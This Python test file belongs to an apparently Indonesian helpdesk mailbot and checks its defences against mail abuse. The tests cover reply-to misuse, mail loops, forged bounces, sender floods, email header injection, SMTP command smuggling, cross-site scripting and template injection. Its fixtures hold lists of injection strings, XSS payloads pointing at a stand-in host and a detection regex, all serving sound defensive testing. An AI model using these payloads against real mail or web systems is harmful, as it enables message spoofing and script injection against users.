"""What leaves, and to whom: threats 10 to 20, 30, 31, 33, 34, 40, 43 and 54."""

from __future__ import annotations

import asyncio
import email
import re
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from email.message import Message
from pathlib import Path
from random import Random

import pytest

from mailbot.arrivals.intake import Intake
from mailbot.clock import RehearsalClock
from mailbot.delivery import account
from mailbot.delivery.sender import Sender, submitter
from mailbot.errors import PermanentFailure
from mailbot.model import Attachment, NamedAddress
from mailbot.templates import compose
from mailbot.templates.catalogue import MAILS
from mailbot.templates.compose import Head, build, subject_line
from mailbot.templates.render import Body
from tests.mailservers.faulty import FaultySmtp
from tests.steps import BORDER, escalated, minutes_later, number, opened, staff_writes, templates
from tests.threats.hostile import (
    BUDI,
    CANARY,
    EVIL,
    MIXED,
    SARI,
    arrive,
    parts,
    raw,
    recipients,
    says,
    says_canary,
    seen,
    states,
    ticket,
    written,
)
from tests.world import LPSE, PEOPLE, Letter, PaperWorld

INSIDE = {PEOPLE[who] for who in ("petugas", "rekan", "koordinator", "kepala", "operator")}
URL = "https://jahat.test/klik"


# --- who is written to --------------------------------------------------------------------------------


def test_threat_10_nothing_goes_to_a_reply_to(office: PaperWorld) -> None:
    targets = [PEOPLE["lkpp"], SARI, LPSE, "milis@luar.test", "korban@lain.test", f"{EVIL}, korban@lain.test"]
    arrive(
        office,
        [
            raw(f"Reply-To: {target}", f"Return-Path: <{target}>", "Disposition-Notification-To: " + target,
                sender=f"u{n}@penyedia.test", subject=f"Akun {n}", text=f"Akun {n * 7919} terkunci.\r\n")
            for n, target in enumerate(targets)
        ],
    )  # fmt: skip
    senders = {f"u{n}@penyedia.test" for n in range(len(targets))}
    assert recipients(office) == senders | {SARI, PEOPLE["rekan"], PEOPLE["operator"]}
    assert {str(row["template"]) for row in office.rows("SELECT template FROM outbox WHERE party = 'user'")} == {
        "user_acknowledgement"
    }
    # And what claims to come from one of us, or from a list, is not answered at all.
    arrive(office, [raw(sender=LPSE), raw("List-Id: <milis.luar.test>", sender="milis@luar.test")])
    assert recipients(office) == senders | {SARI, PEOPLE["rekan"], PEOPLE["operator"]}


def test_threat_11_a_verification_mail_for_our_address_reaches_nobody_outside(office: PaperWorld) -> None:
    """Somebody registers our address elsewhere, so that the code comes into his own ticket and from there to him."""
    office.write("orang luar", "Mohon bantuan akun saya.")
    office.once()
    mine, one = office.last("orang luar"), number(office)
    code = f"Selamat bergabung, {CANARY}.\r\nKode verifikasi Anda: 482913\r\n"
    arrive(
        office,
        [
            raw(sender="noreply@jejaring.test", subject=f"[{one}] Verifikasi", text=code),
            raw(sender="halo@jejaring.test", subject=f"[{one}] Verifikasi", text=code),
            raw(sender="halo@jejaring.test", subject="Verifikasi", text=code, answers=mine),
            raw(f"X-Mailbot-Ticket: {one}", sender="halo@jejaring.test", text=code, to=f"lpse+{one}@batangkab.test"),
            raw(sender="halo@jejaring.test", subject="Verifikasi", text=f"Halo {one},\r\n{code}"),
        ],
    )
    assert says_canary(written(office, "recipient NOT IN (?, ?)", SARI, PEOPLE["rekan"])) == []
    assert templates(office.letters("orang luar")) == ["user_acknowledgement"]
    assert says_canary_in(office, one) == [], "nor does it become a part of it"
    # LKPP neither, if staff go on with the attacker's own ticket.
    notice = next(each for each in office.letters("petugas") if each.message["X-Mailbot-Ticket"] == one)
    staff_writes(office, "#eskalasi Akun terkunci.", notice)
    assert says_canary(office.letters("lkpp")) == []


def test_threat_12_whoever_stands_in_cc_becomes_no_party(office: PaperWorld) -> None:
    notice = opened(office, cc=f"Mallory <{EVIL}>")
    one = number(office)
    own = office.last("pengguna")
    arrive(office, [raw(f"Cc: {EVIL}", f"Bcc: {EVIL}", sender=BUDI, answers=own, to=f"{LPSE}, {EVIL}")])
    staff_writes(office, "#info Sedang kami periksa.", notice, cc=EVIL)
    staff_writes(office, "#eskalasi Gagal sejak kemarin.", notice, cc=f"{PEOPLE['lkpp']}, {EVIL}")
    arrive(office, [raw(f"Cc: {EVIL}", sender=PEOPLE["lkpp"], answers=office.last("lkpp"),
                        text="Sedang dalam proses penanganan tim teknis.\r\n")])  # fmt: skip
    assert EVIL not in recipients(office)
    assert {str(row["address"]) for row in office.rows("SELECT address FROM parties")} <= {BUDI, PEOPLE["lkpp"]}
    before = seen(office, [one])
    arrive(office, [raw(subject=f"Re: [{one}]", text=f"{CANARY}\r\n", answers=own)])
    assert seen(office, [one]) == before
    for each in written(office):
        assert len(each.message["To"].addresses) == 1
        assert each.message["Cc"] is None and each.message["Bcc"] is None


def says_canary_in(office: PaperWorld, one: str) -> list[str]:
    """What is stored with a ticket, and holds the canary."""
    sql = "SELECT x.body FROM texts x JOIN tickets t ON t.id = x.ticket_id WHERE t.number = ?"
    return [str(row["body"]) for row in office.rows(sql, one) if CANARY in str(row["body"])]


# --- how much -------------------------------------------------------------------------------------------


def test_threat_13_two_mailbots_and_a_robot_fall_silent_after_five_mails(tmp_path: Path) -> None:
    there = "lpse@kendalkab.test"
    for name in ("a", "b", "c"):
        (tmp_path / name).mkdir()
    one = PaperWorld(tmp_path / "a")
    other = PaperWorld(tmp_path / "b", address=there, ticket_prefix="LPSE-KDL", organisation="LPSE Kendal")
    one.drop(raw(sender=there, subject="Mohon bantuan"))  # forged, so that they begin
    passed = {LPSE: 0, there: 0}
    for _ in range(40):
        one.once()
        other.once()
        for office, address, target in ((one, there, other), (other, LPSE, one)):
            letters = office.letters(address)
            for each in letters[passed[address] :]:
                target.drop(b"Return-Path: <>\r\n" + each.raw if "ack" in each.template else each.raw)
            passed[address] = len(letters)
        one.now += timedelta(minutes=20)
        other.now = one.now
    assert 1 <= passed[LPSE] + passed[there] <= 5
    one.store.close()
    other.store.close()

    office = PaperWorld(tmp_path / "c")
    robot, answered = "info@layanan.test", 0
    office.drop(raw(sender=robot, subject="Layanan informasi", text="Surat Anda kami terima.\r\n"))
    mails = 1
    for n in range(40):
        office.once()
        letters = office.letters(robot)
        for each in letters[answered:]:  # it marks nothing, and writes other words each time
            text = f"Surat Anda nomor {n} perihal {each.subject} kami terima, {n * 7919}.\r\n"
            office.drop(raw(sender=robot, subject=f"Layanan {n}", text=text))
            mails += 1
        mails += len(letters) - answered
        answered = len(letters)
        office.now += timedelta(minutes=1)
    assert 2 <= mails <= 6  # its first one, and five
    office.store.close()


def _report(about: str, recipient: str, *, sender: str = "MAILER-DAEMON@mx.penyedia.test") -> bytes:
    """A delivery status notification (RFC 3464)."""
    status = f"Final-Recipient: rfc822; {recipient}\r\nAction: failed\r\nStatus: 5.1.1\r\n"
    return raw(
        "Return-Path: <>",
        "MIME-Version: 1.0",
        "Content-Type: multipart/report; report-type=delivery-status; boundary=X",
        "Auto-Submitted: auto-replied",
        sender=sender,
        subject="Undelivered Mail Returned to Sender",
        text=parts(
            ("Content-Type: text/plain", f"{CANARY}: the mail could not be delivered."),
            ("Content-Type: message/delivery-status", f"Reporting-MTA: dns; mx\r\n\r\n{status}"),
            ("Content-Type: text/rfc822-headers", f"From: {LPSE}\r\nTo: {recipient}\r\nMessage-ID: {about}\r\n"),
        ),
    )


def test_threat_14_a_bounce_is_never_answered_and_makes_no_ticket(office: PaperWorld) -> None:
    opened(office)
    own = office.last("pengguna")
    for n in range(5):
        arrive(office, [_report(own.message_id, BUDI), _report(f"<lain-{n}@luar.test>", "x@luar.test")])
        # What staff are told bounces too.
        arrive(office, [_report(each.message_id, SARI) for each in office.letters("petugas")])
    assert len(office.rows("SELECT 1 FROM tickets")) == 1
    assert not any("mailer-daemon" in address.lower() for address in recipients(office))
    assert templates(written(office, "recipient = ?", BUDI)) == ["user_acknowledgement"]
    told = templates(written(office, "recipient = ?", SARI))
    assert told.count("staff_undeliverable") == 1
    once = len(written(office))
    arrive(office, [_report(each.message_id, SARI) for each in office.letters("petugas")])
    assert len(written(office)) == once, "and nothing goes round and round"


def test_threat_15_a_forged_bounce_makes_nobody_unreachable(office: PaperWorld) -> None:
    escalated(office)
    one, own = number(office), office.last("pengguna")
    journalled = str(office.rows("SELECT message_id FROM journal ORDER BY id LIMIT 1")[0]["message_id"])
    digits = own.message_id[1:33]
    forged = [
        "<tebakan@batangkab.test>",
        f"<{'0' * 32}@batangkab.test>",
        own.message_id.replace(digits[-1] + "@", f"{int(digits[-1], 16) ^ 1:x}@"),
        own.message_id.replace(digits, digits[:16]),
        journalled,  # one of his, not of ours
        "",
        f"[{one}]",
    ]
    before = seen(office)
    arrive(office, [_report(each, address) for each in forged for address in (BUDI, PEOPLE["lkpp"])])
    assert seen(office) == before
    assert {str(row["state"]) for row in office.rows("SELECT state FROM outbox")} == {"accepted"}
    # Nor does a genuine one of a mail that nobody tries to deliver any more.
    office.now += timedelta(days=11)
    office.drop(_report(own.message_id, BUDI))
    office.once()
    assert not ticket(office, one)["user_unreachable"]
    assert not written(office, "template = 'staff_undeliverable'")


def _bombed(office: PaperWorld, count: int) -> None:
    office.at("2026-12-21 08:00")
    for n in range(count):
        office.drop(raw(sender=f"korban{n}@surat{n % 7}.test", subject=f"Akun {n}", text=f"Akun {n * 7919}.\r\n"))
    office.once()
    sent = [each for each in written(office, "party = 'user' AND state = 'accepted'")]
    assert len(sent) == min(30, count)
    assert len(office.rows("SELECT 1 FROM tickets")) == count, "nothing is lost"


def test_threat_16_of_a_flood_of_forged_senders_few_are_answered(border: PaperWorld, tmp_path: Path) -> None:
    fails = says("fail", "penyedia.test")
    arrive(border, [raw(fails, sender=f"v{n}@penyedia.test", text=f"Akun {n * 7919}.\r\n") for n in range(3)])
    assert written(border, "party = 'user'") == [], "nobody is answered for whom the border server has found a forgery"
    limits = border.site.config.limits
    assert (limits.acknowledgements_unproven_per_hour, limits.acknowledgements_unproven_per_day) == (30, 3)
    (tmp_path / "b").mkdir()
    office = PaperWorld(tmp_path / "b", limits={"acknowledgements_unproven_per_hour": 8})
    for n in range(14):
        office.drop(raw(sender=f"korban{n}@surat{n % 7}.test", subject=f"Akun {n}", text=f"Akun {n * 7919}.\r\n"))
    office.once()
    assert len(written(office, "party = 'user' AND state = 'accepted'")) == 8
    assert len(office.rows("SELECT 1 FROM tickets")) == 14, "nothing is lost"
    # One victim gets three in a day, whatever comes.
    office.now += timedelta(hours=2)
    for n in range(5):
        office.drop(raw(sender="satu@penyedia.test", subject=f"Hal {n}", text=f"Hal {n * 7919} dan {n}.\r\n"))
    office.once()
    assert len(written(office, "recipient = 'satu@penyedia.test' AND state = 'accepted'")) <= 3
    office.store.close()


@pytest.mark.long
def test_long_16_five_thousand_forged_senders(office: PaperWorld) -> None:
    _bombed(office, 5_000)


def test_threat_17_an_acknowledgement_repeats_nothing_that_an_unproven_sender_wrote(free: PaperWorld) -> None:
    arrive(
        free,
        [
            raw(sender=f'"Klik {URL}" <korban1@lain.test>', subject=f"Menang {URL}", text=f"Klik {URL}\r\n"),
            raw("Reply-To: " + f'"{URL}" <a@lain.test>', sender="korban2@lain.test", subject=f"=?utf-8?q?{URL}?="),
            raw(sender="korban3@lain.test", subject=URL, text=f"Nama: {URL}\r\nPassword: {URL}\r\nKunjungi {URL}\r\n"),
            raw(*MIXED, sender=f"=?utf-8?q?{URL.replace(':', '=3A')}?= <korban4@lain.test>",
                text=parts((f'Content-Type: text/plain; name="{URL}"', URL))),
            raw("Message-ID: <jahat.test/klik@x.test>", sender="korban5@lain.test"),
        ],
    )  # fmt: skip
    sent = written(free, "recipient LIKE 'korban%'")
    assert {"user_acknowledgement"} == set(templates(sent)) and len(sent) >= 5
    assert any("segera mengganti" in each.text for each in sent)  # of the one with a password
    for each in sent:
        hidden = ("In-Reply-To", "References")  # threading needs these; no program shows them
        headers = [header for header in each.message.items() if header[0] not in hidden]
        shown = f"{headers} {each.text} {each.html}".lower()
        assert "jahat" not in shown and "menang" not in shown


def test_threat_43_a_flood_of_one_sender_fills_nobody_s_inbox(office: PaperWorld) -> None:
    office.at("2026-12-21 08:00")
    for n in range(45):
        office.drop(raw(subject=f"Serangan {n}", text=f"Serangan ke-{n} dengan kata {n * 7919 % 1000}.\r\n"))
    office.once()
    for _ in range(4):
        minutes_later(office, 15)
    assert len(office.rows("SELECT 1 FROM tickets")) == 45, "each has its ticket"
    to_sari = written(office, "recipient = ? AND state = 'accepted'", SARI)
    assert len(to_sari) <= 30
    told = " ".join(each.text for each in to_sari)
    assert all(str(row["number"]) in told for row in office.rows("SELECT number FROM tickets"))
    assert len(office.letters("orang luar")) <= 3


# --- the bytes ------------------------------------------------------------------------------------------


_SEEDS = [
    f"a{end}{line}"
    for end in ("\r\n", "\n", "\r", "\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1c", "\r\n\r\n")
    for line in (f"Bcc: {EVIL}", f"Content-Type: text/html\r\n\r\n<b>{CANARY}</b>", f"\tX: {CANARY}", "Subject: lain")
] + [
    f"=?utf-8?q?a=0D=0ABcc=3A_{EVIL.replace('@', '=40')}?=",
    "=?utf-8?b?YQ0KQmNjOiBtYWxsb3J5QGx1YXIudGVzdA==?=",
    "=?utf-8?q?a?=\r\nBcc: x@luar.test\r\n =?utf-8?q?b?=",
    "\0\0", "x" * 5000, "=?" * 500, '"', '\\"', "<>", "(", ";", ",@,", "ä" * 400, "\u202egpj.exe", "\ud800",
]  # fmt: skip


def _payloads() -> list[str]:
    found = [f"{before}{seed}{after}" for seed in _SEEDS for before in ("", "ä ") for after in ("", " é")]
    return list(dict.fromkeys(found))[:200]


_ALTERNATIVE = [["Content-Type"], *[["Content-Type", "Content-Transfer-Encoding"]] * 2]
_TREE = [*_ALTERNATIVE, ["Content-Type", "Content-Disposition", "Content-Transfer-Encoding"]]


def _names(data: bytes) -> list[list[str]]:
    """The header names of every part, as the standard library finds them."""
    message: Message = email.message_from_bytes(data)
    return [part.keys() for part in message.walk()]


def _built(subject: str = "a", name: str = "a", file: str = "a") -> bytes:
    number = "LPSE-BTG-2026-000001"
    head = Head(
        sender=NamedAddress(name, LPSE),
        recipient=NamedAddress(name, BUDI),
        subject=subject_line(MAILS["user_info"], number, subject),
        message_id="<0123456789abcdef0123456789abcdef@batangkab.test>",
        date=datetime(2026, 12, 21, tzinfo=UTC),
        ticket_number=number,
        references=["<a@b>", subject, f"<{name}>"],
    )
    body = Body(f"{subject}\n", "<p>a</p>\n")
    return build(MAILS["user_info"], head, body, [Attachment(file, file, b"isi", "0" * 64)])


def test_threat_18_no_word_of_a_stranger_becomes_a_header(
    free: PaperWorld, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    payloads = _payloads()
    assert len(payloads) >= 150
    head, *tree = _names(_built())
    assert tree == _TREE and head[:6] == ["From", "To", "Subject", "Date", "Message-ID", "References"]
    for payload in payloads:
        for data in (_built(subject=payload), _built(name=payload), _built(file=payload)):
            assert _names(data) == [head, *_TREE], payload
    # The same, from mails that came in, to all whom they reach.
    office = free
    some = [payload for payload in payloads[:: len(payloads) // 12] if "\ud800" not in payload]
    for n, payload in enumerate(some):
        office.write(f"u{n}@penyedia.test", f"Akun {n * 7919}.", subject=f"Akun {n}")
        hostile = compose._encoded_words(f"{payload} {n}").replace("\r\n ", " ")
        office.drop(
            raw(*MIXED, sender=f"{hostile} <v{n}@penyedia.test>", subject=hostile,
                text=parts(("Content-Type: text/plain", f"Akun {n * 104729}."),
                           (f'Content-Type: image/png; name="{hostile}"', "isi")))
        )  # fmt: skip
    office.once()
    every = office.sent()
    assert len(every) > 3 * len(some)
    for row in every:
        head = _names(bytes(row["raw"]))[0]
        assert "Bcc" not in head and "X" not in head and len(head) == len(set(head))
        assert head[:5] == ["From", "To", "Subject", "Date", "Message-ID"]

    # Should the cleaning ever fail: what does not read back as it was meant is not sent, and a person is told.
    before = len(every)
    monkeypatch.setattr(compose, "one_line", lambda text, limit=None: text)
    monkeypatch.setattr(compose, "_subject", lambda subject, number: f"{subject}\r\nBcc: {EVIL}")
    with pytest.raises(PermanentFailure):
        _built()
    office.write("pengguna", "Akun saya terkunci.")
    office.once()
    assert states(office)[-1] == "quarantined"
    assert len(office.rows("SELECT 1 FROM outbox")) == before


class _Wire:
    """An office whose mails leave by a real SMTP dialogue."""

    def __init__(self, folder: Path) -> None:
        self.smtp = FaultySmtp()
        self.office = PaperWorld(folder, smtp={"port": self.smtp.port})

    def send(self) -> int:
        """What came in is handled and leaves; how many mails there are in all."""
        office = self.office
        Intake(office.store, office.site, ["LPSE-BTG"]).handle_waiting(office.now)

        async def deliver() -> None:
            async with submitter(account.of(office.site)) as connection:
                sender = Sender(
                    office.store, account.of(office.site), RehearsalClock(office.now), lambda _: True, lambda _: None
                )
                await sender.send_due(connection, office.now, lambda: False)

        asyncio.run(deliver())
        return len(office.rows("SELECT 1 FROM outbox WHERE state IN ('accepted', 'failed')"))


@pytest.fixture
def wire(tmp_path: Path) -> Iterator[_Wire]:
    made = _Wire(tmp_path)
    with made.smtp:
        yield made
    made.office.store.close()


def test_threat_19_an_address_brings_no_command_into_the_dialogue_with_our_server(wire: _Wire) -> None:
    injected = "RCPT TO:<korban@lain.test>"
    addresses: list[str | bytes] = [
        f'"a\r\n {injected}"@luar.test',
        f'"a>\\\r\n {injected}"@luar.test',
        f"=?utf-8?q?a=40luar.test=3E=0D=0A{injected.replace(' ', '_').replace(':', '=3A')}?=",
        "=?utf-8?q?x?= <a@luar.test=0D=0ADATA>",
        f"a@luar.test>\n{injected}\n<b@luar.test",
        b"a@luar.test>\r" + injected.encode(),
        b"a@luar.test\x00\r\n",
        "a@luar.test> SIZE=1",
        "a@luar.test>,<korban@lain.test",
        '"a b"@luar.test',
        "a@[127.0.0.1]\u2028DATA",
        "a@luar.test\x0bDATA",
    ]
    office = wire.office
    for n, address in enumerate(addresses):
        office.drop(raw(sender=address, subject=f"Akun {n}", text=f"Akun {n * 7919}.\r\n"))
    office.write("pengguna", "Surat biasa.")
    # And if one of them should ever get into the outbox.
    assert wire.send() > 3
    with office.store.immediate():
        row = office.rows("SELECT id FROM outbox ORDER BY id LIMIT 1")[0]
        office.store.update("outbox", row["id"], recipient=f"a@luar.test>\r\n{injected}", state="queued")
    wire.send()
    verbs = {command.split(b" ")[0].split(b":")[0] for command in wire.smtp.commands}
    assert verbs <= {b"EHLO", b"MAIL", b"RCPT", b"DATA", b"RSET", b"QUIT"}
    named = {address for mail in wire.smtp.mails for address in mail.recipients}
    assert "korban@lain.test" not in named and BUDI in named
    assert not any(b"korban" in command or b"SIZE=1" in command for command in wire.smtp.commands)


def test_threat_20_no_body_ends_a_mail_early_and_begins_another(wire: _Wire) -> None:
    ends = ("\r\n.\r\n", "\n.\n", "\n.\r\n", "\r.\r", "\r\n.\r", "\r.\r\n", "\r\n.\n", "\u2028.\u2028", "\r\n\0.\r\n")
    smuggled = f"MAIL FROM:<{SARI}>\r\nRCPT TO:<korban@lain.test>\r\nDATA\r\nFrom: {SARI}\r\n\r\n{CANARY}"
    office = wire.office
    for n, end in enumerate(ends):
        text = f"Akun {n * 7919}.{end}{smuggled}{end}"
        if "\0" not in text:
            office.drop(raw("Content-Type: text/plain; charset=utf-8", subject=f"Akun {n}", text=text))
        body = parts(("Content-Type: text/plain", f"Akun {n}"), ("Content-Type: text/html", text), ("X: y", text))
        office.drop(raw(*MIXED, subject=f"Berkas {n}", sender=f"u{n}@penyedia.test", text=body))
    wire.send()
    # Staff, who have copied it: their words go to the user without a mark before each line.
    notice = office.last("petugas", "staff_new_ticket")
    office.write("petugas", f"#info Baris.\n.\n{smuggled}\n.\n", answers=notice)
    Intake(office.store, office.site, ["LPSE-BTG"]).handle_waiting(office.now)
    office.now += timedelta(minutes=5)
    sent = wire.send()
    assert "user_info" in templates(written(office, "party = 'user'"))
    assert sent >= 2 * len(ends) and len(wire.smtp.mails) == sent
    assert "korban@lain.test" not in {address for mail in wire.smtp.mails for address in mail.recipients}
    for mail in wire.smtp.mails:
        assert re.search(rb"(?<!\r)\n|\r(?!\n)|\0", mail.data) is None, (
            "no end of line that two servers see differently"
        )
        assert max(map(len, mail.data.split(b"\r\n"))) <= 998


# --- words ----------------------------------------------------------------------------------------------


def _active() -> list[str]:
    """A hundred pieces of HTML that do something where they are shown."""
    run, shown = "alert(1)", "<{0}>x</{0}>"
    tags = ("img", "svg", "body", "iframe", "video", "audio", "input", "details", "object", "marquee", "math", "a")
    events = ("onerror", "onload", "onclick", "ONTOGGLE", "onfocus", "oNmouseover")
    found = [f'<{tag} src=x href=x {event}="{run}">x' for tag in tags for event in events]
    found += [
        shown.format(tag) for tag in ("script", "SCRIPT", "scr\0ipt", "script/x", "script\n", "style", "noscript")
    ]
    found += [
        "<script src=//jahat.test/a></script>", "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</script>",
        '<a href="javascript:alert(1)">x</a>', '<a href="JaVaScRiPt:alert(1)">x</a>',
        '<a href="java\tscript:alert(1)">x</a>', '<a href="&#106;avascript:alert(1)">x</a>',
        '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a href="vbscript:x">x</a>',
        '<img src="http://jahat.test/a.png">', '<img src="//jahat.test/a.png">', "<img src='https://jahat.test/a'>",
        '<link rel=stylesheet href="http://jahat.test/a.css">', '<base href="http://jahat.test/">',
        '<meta http-equiv=refresh content="0;url=http://jahat.test">', '<div style="background:url(http://jahat.test)">',
        "<style>@import 'http://jahat.test/a.css'</style>", '<form action="http://jahat.test"><input name=a></form>',
        '<object data="http://jahat.test">', '<embed src="http://jahat.test">', '<iframe src="http://jahat.test">',
        '<video poster="http://jahat.test">', '<svg><image href="http://jahat.test"/></svg>', "<!--[if IE]><script>x",
    ]  # fmt: skip
    return found


_ACTIVE = re.compile(
    r"<script|\bon[a-z]+\s*=|javascript:|vbscript:|data:text|src\s*=|<(?:iframe|object|embed|form|link|base|svg|video)"
    r"|url\(|@import|http-equiv=[\"']?refresh|href=(?![\"']?mailto:)",
    re.I,
)


def _in_tags(html: str) -> str:
    """What a program that shows HTML takes for tags and their attributes; conditional comments of ours left out."""
    bare = re.sub(r"<!--\[if .*?<!\[endif\]-->", "", html, flags=re.DOTALL)
    return " ".join(re.findall(r"<[^>]*>", bare))


def test_threat_30_nothing_in_a_mail_that_is_passed_on_runs_or_loads(free: PaperWorld) -> None:
    payloads = _active()
    assert len(payloads) >= 100
    office, each = free, 10
    for start in range(0, len(payloads), each):
        some = payloads[start : start + each]
        text, as_html = "\r\n".join(some), "<p>Akun</p>" + "".join(f"<p>{one}</p>" for one in some)
        files = [("a.html", as_html), ("a.svg", f"<svg onload=alert(1)>{as_html}</svg>"), ("a.xhtml", as_html)]
        body = parts(
            *((f"Content-Type: text/{kind}; charset=utf-8", words) for kind, words in (("plain", text),)),
            *((f'Content-Type: {kind}; name="{name}"\nContent-Disposition: attachment; filename="{name}"', content)
              for (name, content), kind in zip(files, ("text/html", "image/svg+xml", "application/xhtml+xml"),
                                               strict=True)),
        )  # fmt: skip
        office.drop(raw(*MIXED, sender=f"u{start}@penyedia.test", subject=some[0], text=body))
        office.drop(raw("MIME-Version: 1.0", "Content-Type: text/html; charset=utf-8", sender=f"h{start}@penyedia.test",
                        subject=some[-1].replace("\n", " "), text=as_html))  # fmt: skip
    office.once()
    found = written(office)
    assert len(found) >= 40
    for one in found:
        assert (hit := _ACTIVE.search(_in_tags(one.html))) is None, hit
        for part in one.message.iter_attachments():
            name = str(part.get_filename())
            if name.startswith("a."):
                assert name.endswith(".txt") and part.get_content_type() == "application/octet-stream"


def test_threat_31_the_words_of_a_mail_are_no_template(free: PaperWorld) -> None:
    tricks = (
        "{{7*7}}", "{% print(7*7) %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0.__class__}", "%(x)s %s %n",
        "{{ ''.__class__.__mro__ }}", "{{ config }}", "{{ organisation.address }}", "{# c #}", "# for x in y",
        "f'{7*7}'",
        "\x02" + "0" + "\x03", "\ue000" + "0" + "\ue001",
    )  # fmt: skip
    for n, trick in enumerate(tricks):
        office = free
        office.drop(
            raw(says("pass", "penyedia.test"), sender=f'"{trick}" <u{n}@penyedia.test>', subject=f"{trick} akun",
                text=f"Nama: {trick}\r\nHP: {trick}\r\n\r\nAkun kami: {trick} terkunci.\r\n")
        )  # fmt: skip
    office.once()
    notices = [each for each in office.letters("petugas") if each.template == "staff_new_ticket"]
    assert len(notices) == len(tricks)
    for trick, each in zip(tricks, notices, strict=True):
        shown = f"{each.subject} {each.text}"
        assert "49" not in re.sub(r"[0-9a-f]{8,}|\d+[:.]\d+", "", each.text) or "49" in trick
        assert "class '" not in shown and "Undefined" not in shown
        visible = "".join(c for c in trick if c.isprintable() and ord(c) < 0xE000)
        assert visible in " ".join(each.text.split()), "it is shown as it was written"


def test_threat_33_what_is_internal_reaches_neither_user_nor_lkpp(office: PaperWorld) -> None:
    """A canary of its own in everything that somebody inside writes."""
    notice = opened(office, "Kami tidak bisa masuk. Alamat kami KENARI-PENGGUNA.")
    staff_writes(office, "#catat KENARI-CATATAN curiga palsu", notice)
    staff_writes(office, "KENARI-BIASA untuk rekan", office.last("petugas", "staff_receipt"))
    staff_writes(office, "#rahasia KENARI-SALAH", notice)
    staff_writes(office, "#eskalasi KENARI-RINGKASAN", notice)
    escalation = office.last("lkpp")
    for words in ("KENARI-KEMBALI: hal ini merupakan kewenangan LPSE.", "KENARI-KABUR semoga sukses."):
        arrive(office, [raw(sender=PEOPLE["lkpp"], answers=escalation, text=f"{words}\r\n")])
        if office.status() == "returned":
            staff_writes(office, "#catat KENARI-ULANG", office.last("petugas", "staff_returned"))
            staff_writes(office, "#eskalasi KENARI-LAGI", office.last("petugas", "staff_returned"))
    staff_writes(office, "#lkpp KENARI-SURAT", notice)
    staff_writes(office, "#catat KENARI-KOORDINATOR", notice)
    arrive(office, [raw(f"Authentication-Results: {BORDER}; none", sender="lain@luar.test",
                        subject=f"[{number(office)}]", text="KENARI-ORANG\r\n")])  # fmt: skip
    staff_writes(office, "#jawab Silakan dicoba kembali. KENARI-JAWAB", office.last("petugas", "staff_classify"))
    for day in range(22, 31):
        office.at(f"2026-12-{day} 09:00")
        office.once()
    to_user = {word for each in written(office, "recipient = ?", BUDI) for word in _canaries(each)}
    to_lkpp = {word for each in written(office, "recipient = ?", PEOPLE["lkpp"]) for word in _canaries(each)}
    to_staff = {word for each in written(office, "recipient = ?", SARI) for word in _canaries(each)}
    assert to_user <= {"KENARI-JAWAB", "KENARI-PENGGUNA"} and "KENARI-JAWAB" in to_user
    assert to_lkpp <= {"KENARI-RINGKASAN", "KENARI-LAGI", "KENARI-SURAT", "KENARI-PENGGUNA", "KENARI-JAWAB"}
    assert {"KENARI-RINGKASAN", "KENARI-SURAT"} <= to_lkpp
    assert {"KENARI-KEMBALI", "KENARI-KABUR", "KENARI-ORANG"} <= to_staff


def _canaries(one: Letter) -> set[str]:
    return set(re.findall(r"KENARI-[A-Z]+", f"{one.subject} {one.text} {one.html} {one.attachments}"))


_STYLES: dict[str, Callable[[str, str], str]] = {
    "Gmail": lambda new, old: f"{new}\n\nOn Mon, Dec 21, 2026 at 9:00 AM LPSE <{LPSE}> wrote:\n\n{_marked(old, '> ')}",
    "Gmail in Indonesian": lambda new, old: (
        f"{new}\n\nPada tanggal Sen, 21 Des 2026 pukul 09.00 LPSE <{LPSE}> menulis:\n\n{_marked(old, '> ')}"
    ),
    "Outlook": lambda new, old: (
        f"{new}\n\n-----Original Message-----\nFrom: LPSE <{LPSE}>\nSent: Monday, December 21, 2026 9:00 AM\n"
        f"To: Sari\nSubject: RE\n\n{old}"
    ),
    "Outlook in Indonesian": lambda new, old: (
        f"{new}\n\n________________________________\nDari: LPSE <{LPSE}>\nDikirim: Senin, 21 Desember 2026 09.00\n"
        f"Kepada: Sari\nSubjek: Re\n\n{old}"
    ),
    "Thunderbird": lambda new, old: f"{new}\n\nOn 21/12/26 09.00, LPSE wrote:\n{_marked(old, '> ')}",
    "Zimbra": lambda new, old: (
        f'{new}\n\nDari: "LPSE" <{LPSE}>\nKepada: "Sari" <{SARI}>\nDikirim: Senin, 21 Desember 2026 09:00:00\n'
        f"Perihal: Re\n\n{old}"
    ),
    "Yahoo": lambda new, old: (
        f"{new}\n\n    Pada Senin, 21 Desember 2026 09.00.00 WIB, LPSE <{LPSE}> menulis:\n\n{_marked(old, '  ')}"
    ),
    "iPhone": lambda new, old: (
        f"{new}\n\nDikirim dari iPhone saya\n\n> Pada 21 Des 2026, pukul 09.00, LPSE <{LPSE}> menulis:\n> \n"
        f"{_marked(old, '> ')}"
    ),
    "none at all": lambda new, old: f"{new}\n\n{old}",
    "nothing but the quotation": lambda new, old: _marked(old, "> "),
    "between the lines": lambda new, old: (
        f"Pada Sen, 21 Des 2026 LPSE menulis:\n{_marked(old[:200], '> ')}\n{new}\n{_marked(old[200:], '> ')}"
    ),
}


def _marked(text: str, mark: str) -> str:
    return "\n".join(mark + line for line in text.splitlines())


def test_threat_34_what_a_reply_quotes_is_not_sent_on(free: PaperWorld) -> None:
    """Staff answer on top of mails that show what LKPP wrote to them, or a colleague's note."""
    for n in range(len(_STYLES)):
        free.write(f"u{n}@penyedia.test", f"Akun {n * 7919} terkunci.", subject=f"Akun {n}")
    free.once()
    for n, each in enumerate(one for one in free.letters("petugas") if one.template == "staff_new_ticket"):
        free.write("petugas", f"#eskalasi Gagal sejak kemarin ({n}).", answers=each, quote=False)
    free.once()
    for n, each in enumerate(free.letters("lkpp")):
        guidance = f"Hal ini merupakan kewenangan LPSE. {CANARY}: pengguna ini sering mengeluh ({n}).\r\n"
        free.drop(raw(sender=PEOPLE["lkpp"], answers=each, text=guidance))
    free.once()
    notices = [one for one in free.letters("petugas") if one.template == "staff_returned"]
    assert len(notices) == len(_STYLES) and all(CANARY in each.text for each in notices)
    for (style, write), notice in zip(_STYLES.items(), notices, strict=True):
        reply = write(f"Silakan dicoba kembali: {style}.", notice.text)
